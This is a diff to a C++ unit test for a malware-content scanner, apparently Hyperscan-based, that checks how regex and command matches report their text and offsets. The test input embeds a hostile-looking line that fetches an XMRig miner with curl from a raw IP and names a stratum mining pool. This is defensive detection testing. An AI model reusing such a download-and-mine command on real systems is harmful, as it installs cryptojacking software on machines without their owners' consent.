@@ -73,9 +73,16 @@ TEST_F(Fixture, RegexAndCommandCarryTheMatchedText) {
   auto hits = scanner.scan("start\nnohup curl -s http://1.2.3.4/XMRig -o x\n -o stratum+tcp://pool.example.org:3333 tail");
   const Hit* url = find(hits, "r.url");
   ASSERT_NE(url, nullptr);
-  // Streaming reports a match at its first possible end: the shortest text that matches.
-  EXPECT_EQ(url->text, "stratum+tcp://pool.example.org:3");
-  EXPECT_EQ(url->offset, 50u);
+  // Streaming reports a match at its first possible end; regexes carry the line (or printable
+  // run) that ends there, since start-of-match tracking is not compiled in.
+  EXPECT_EQ(url->text, " -o stratum+tcp://pool.example.org:3");
+  EXPECT_EQ(url->offset, 46u);
+  using namespace std::string_literals;
+  auto binary = scanner.scan("\x01\x00"s + "stratum+tcp://pool.example.org:3333" + "\x00\x02"s);
+  const Hit* in_binary = find(binary, "r.url");
+  ASSERT_NE(in_binary, nullptr);
+  EXPECT_EQ(in_binary->text, "stratum+tcp://pool.example.org:3") << "the printable run, not the bytes before it";
+  EXPECT_EQ(in_binary->offset, 2u);
   const Hit* fetch = find(hits, "c.fetch");
   ASSERT_NE(fetch, nullptr);
   // Hyperscan cannot track this pattern's start, so its text is the line up to the match's end.
